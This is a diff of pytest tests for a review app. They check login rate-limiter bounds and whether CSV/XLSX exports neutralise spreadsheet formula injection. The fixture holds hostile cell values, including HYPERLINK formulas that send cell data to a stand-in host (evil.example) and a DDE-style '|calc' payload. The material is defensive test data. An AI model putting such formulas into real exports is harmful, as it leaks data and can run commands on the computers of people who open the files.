@@ -151,6 +151,47 @@ def test_login_is_rate_limited_per_address(client: TestClient) -> None:
     assert response.status_code == 429
 
 
+def test_login_limiter_keeps_no_entry_for_names_that_did_not_fail() -> None:
+    from review.security import LoginLimiter
+
+    limiter = LoginLimiter()
+    for i in range(1000):
+        assert not limiter.blocked(f"随机{i}", "10.0.0.1")
+    assert len(limiter) == 0
+
+
+def test_login_limiter_table_is_capped_and_forgets_expired_failures() -> None:
+    from review.security import LoginLimiter
+
+    now = [1_000_000.0]
+    limiter = LoginLimiter(max_entries=100, window=900, clock=lambda: now[0])
+    for i in range(5000):  # a flood of fresh names from many addresses
+        if not limiter.blocked(f"随机{i}", f"10.0.{i // 200}.{i % 200}"):
+            limiter.failed(f"随机{i}", f"10.0.{i // 200}.{i % 200}")
+        assert len(limiter) <= 100
+    now[0] += 901
+    limiter.failed("审核员", "10.9.9.9")
+    assert len(limiter) == 2  # the flood's entries left the window and were dropped
+
+
+def test_sixth_failed_login_is_refused_after_a_flood_of_other_names(client: TestClient) -> None:
+    from review.security import LoginLimiter
+
+    limiter = client.app.state.limiter = LoginLimiter(max_entries=50)
+    for i in range(1000):
+        limiter.failed(f"随机{i}", f"10.0.{i // 20}.{i % 20}")
+    for _ in range(5):
+        token = csrf_of(client)
+        wrong = client.post("/login", data={"name": "审核员", "password": "不对", "csrf_token": token})
+        assert wrong.status_code == 401
+    assert len(limiter) <= 50
+    token = csrf_of(client)
+    response = client.post(
+        "/login", data={"name": "审核员", "password": PASSWORD, "csrf_token": token}, follow_redirects=False
+    )
+    assert response.status_code == 429
+
+
 def test_logout_ends_the_session(client: TestClient) -> None:
     login(client, "审核员")
     assert post_form(client, "/logout", {}).status_code == 303
@@ -520,6 +561,56 @@ def test_csv_export_has_chinese_headers_and_defuses_formulas(client: TestClient,
     titles = [r[7] for r in rows[1:]]
     assert any(t.startswith("'=HYPERLINK") for t in titles) and not any(t.startswith("=") for t in titles)
     assert "¥9.90" in text and "近似商标/傍名牌" in text
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|")
+
+
+@pytest.fixture
+def hostile_export(db: Database) -> None:
+    """A lead with a formula in every text column a feed or the scorer can fill."""
+    with db.session() as s:
+        make_brand(s, '=HYPERLINK("http://evil.example/?"&A1,"品牌")')
+        make_lead(
+            s,
+            id='=HYPERLINK("http://evil.example/?"&A1,"x"):1',
+            platform='=HYPERLINK("http://evil.example/?"&A1,"x")',
+            title="+1+1 康帅傅",
+            url="-2+3",
+            currency="=1+2&",
+            price=199.0,
+            seller={"id": "f", "name": "@SUM(1,1) 店"},
+            score=ScoreStub(
+                brand='=HYPERLINK("http://evil.example/?"&A1,"品牌")',
+                violation="|calc'!A0",
+                department="\t=1+1",
+            ),
+        )
+
+
+def test_csv_export_turns_no_scraped_text_into_a_formula(client: TestClient, hostile_export) -> None:
+    login(client, "审核员")
+    text = client.get("/export.csv?since=all").content.decode("utf-8").lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(text)))
+    hostile = next(r for r in rows if "康帅傅" in r[7] and r[7].startswith("'"))
+    assert hostile[6] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'  # platform
+    assert hostile[9] == "'=1+2& 199.00"  # the price, formatted with the scraped currency
+    assert hostile[4] == "'\t=1+1" and hostile[5].startswith("'=HYPERLINK")  # department, brand
+    assert hostile[3] == "'|calc'!A0" and hostile[8] == "'-2+3" and hostile[11] == "'@SUM(1,1) 店"
+    bad = [(i, field) for r in rows for i, field in enumerate(r) if field.startswith(FORMULA_STARTS)]
+    assert not bad
+
+
+def test_xlsx_export_has_no_formula_cell(client: TestClient, hostile_export) -> None:
+    from openpyxl import load_workbook
+
+    login(client, "审核员")
+    book = load_workbook(io.BytesIO(client.get("/export.xlsx?since=all").content))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert "'=1+2& 199.00" in texts and '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in texts
+    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
 
 
 def test_xlsx_export_has_chinese_headers(client: TestClient) -> None:
